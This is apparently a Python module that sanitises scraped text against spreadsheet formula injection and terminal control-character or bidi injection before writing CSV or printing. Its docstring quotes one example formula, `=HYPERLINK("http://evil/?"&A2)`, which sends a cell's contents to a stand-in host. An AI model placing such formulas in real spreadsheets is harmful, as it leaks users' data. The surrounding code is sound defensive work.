"""Writing scraped text where it can do harm: spreadsheet cells and terminals.

Scraped titles and bodies are hostile. A CSV cell that starts with `=`, `+`, `-`, `@`, a tab or a
carriage return is a formula to Excel, LibreOffice and Google Sheets (`=HYPERLINK("http://evil/?"&A2)`
sends a neighbouring cell away): `csv_cell` prefixes it with `'`, as OWASP recommends, so it is shown
as text. Control characters (ESC, BEL, the C1 range with its one-byte CSI, DEL) and bidirectional
overrides can rewrite an analyst's terminal or hide text: `terminal_safe` shows them as `\\x1b`-style
escapes instead of sending them. Every CSV the project writes goes through `csv_writer`.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import IO, Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# C0 controls but tab and newline, DEL, C1 controls, bidi embeddings/overrides/isolates, line/para separators
_TERMINAL_UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
_ONE_LINE_UNSAFE = re.compile("[\t\n]")


def _escape(match: re.Match[str]) -> str:
    cp = ord(match.group())
    return f"\\x{cp:02x}" if cp < 0x100 else f"\\u{cp:04x}"


def terminal_safe(text: object, *, one_line: bool = False) -> str:
    """Text a terminal shows as written: control and bidi characters become visible escapes.
    `one_line` escapes tab and newline too (table cells)."""
    value = _TERMINAL_UNSAFE.sub(_escape, "" if text is None else str(text))
    return _ONE_LINE_UNSAFE.sub(_escape, value) if one_line else value


def json_safe(encoded: str) -> str:
    """JSON text (json.dumps(..., ensure_ascii=False)) with DEL, C1 and bidi characters written as \\u
    escapes: json escapes only C0 itself, and a terminal reads a raw U+009B as CSI."""
    return _TERMINAL_UNSAFE.sub(lambda m: f"\\u{ord(m.group()):04x}", encoded)


def csv_cell(value: object) -> object:
    """A CSV cell that a spreadsheet shows as text, never runs as a formula; control characters escaped."""
    if not isinstance(value, str):
        return value
    text = terminal_safe(value.replace("\r\n", "\n")) if value else value
    stripped = value.lstrip(" ")
    return "'" + text if stripped.startswith(FORMULA_START) else text


class _SafeWriter:
    def __init__(self, out: IO[str], **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([csv_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: IO[str], **options: Any) -> _SafeWriter:
    """csv.writer whose every cell goes through csv_cell."""
    return _SafeWriter(out, **options)
